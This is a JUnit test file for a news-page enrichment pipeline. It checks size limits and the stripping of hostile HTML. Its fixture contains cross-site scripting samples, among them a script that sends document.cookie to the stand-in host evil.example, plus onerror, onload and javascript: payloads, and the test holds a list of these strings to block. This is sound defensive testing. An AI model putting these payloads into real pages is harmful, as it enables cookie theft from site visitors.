package io.newsroom.enrich.messaging;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Instant;
import java.util.List;

import org.junit.jupiter.api.Test;

import io.newsroom.contract.Article;
import io.newsroom.contract.RawPage;
import io.newsroom.enrich.pipeline.EnrichPipeline;
import io.newsroom.enrich.pipeline.UnprocessablePageException;

/** Pages the consumer must refuse or defuse, with a reason, before they reach the index. */
class HostilePagesTest {

    private final EnrichPipeline pipeline = EnrichPipeline.standard();

    @Test
    void aTextFarLongerThanAPageIsRefusedWithTheLimitNamed() {
        PageLimits limits = new PageLimits();
        limits.maxPageChars = 1_000_000;
        String line = "a".repeat(10 << 20); // one line of 10 MB
        UnprocessablePageException e = assertThrows(UnprocessablePageException.class, () -> limits.check(page("one-line.txt", RawPage.TEXT_PLAIN, line)));
        assertTrue(e.getMessage().contains("10485760 characters") && e.getMessage().contains("max-page-chars"), e.getMessage());
    }

    @Test
    void aPageWithinTheLimitPasses() throws Exception {
        PageLimits limits = new PageLimits();
        limits.maxPageChars = 1_000_000;
        limits.check(page("ok.txt", RawPage.TEXT_PLAIN, "本报讯 一篇报道。"));
    }

    @Test
    void anHtmlPageIsMeasuredByItsTextNotItsMarkup() throws Exception {
        PageLimits limits = new PageLimits();
        limits.maxPageChars = 1_000_000;
        String scripts = "<script>var x = 1;</script>".repeat(50_000); // 1.35 M characters of markup
        limits.check(page("article.html", RawPage.TEXT_HTML, "<html><head>" + scripts + "</head><body><p>The harbour reopened.</p></body></html>"));
        String longText = "<html><body><p>" + "word ".repeat(250_000) + "</p></body></html>";
        assertThrows(UnprocessablePageException.class, () -> limits.check(page("book.html", RawPage.TEXT_HTML, longText)));
    }

    @Test
    void scriptsIframesAndEventHandlersNeverReachAnArticle() throws Exception {
        String html = """
                <!DOCTYPE html><html lang="en"><head><title>Harbour reopens</title>
                <script>document.cookie='stolen';fetch('https://evil.example/'+document.cookie)</script>
                <style>body{background:url(javascript:alert(1))}</style></head>
                <body onload="alert('onload')"><article><h1>Harbour reopens after storm</h1>
                <p onclick="alert('click')">The harbour reopened on Tuesday after the storm damaged two piers and a crane.</p>
                <iframe src="https://evil.example/frame" onload="alert('iframe')">Iframe fallback text here</iframe>
                <p>Workers repaired the piers overnight, and the first ferry left at six in the morning.<img src=x onerror="alert('img')"></p>
                <script>alert('inline')</script><noscript>Enable scripts to see the comments.</noscript>
                </article></body></html>
                """;
        List<Article> articles = pipeline.enrich(page("harbour.html", RawPage.TEXT_HTML, html));
        assertFalse(articles.isEmpty());
        for (Article a : articles) {
            String all = String.join("\n", String.valueOf(a.title()), a.body(), String.valueOf(a.summary()));
            for (String bad : List.of("alert(", "document.cookie", "evil.example", "<script", "<iframe", "onerror", "onclick", "javascript:")) {
                assertFalse(all.contains(bad), bad + " in " + all);
            }
            assertTrue(a.body().contains("harbour reopened"), a.body());
        }
    }

    private static RawPage page(String name, String type, String text) {
        return new RawPage("ab".repeat(32), name, type, "UTF-8", text.length(), Instant.now(), text, null);
    }
}
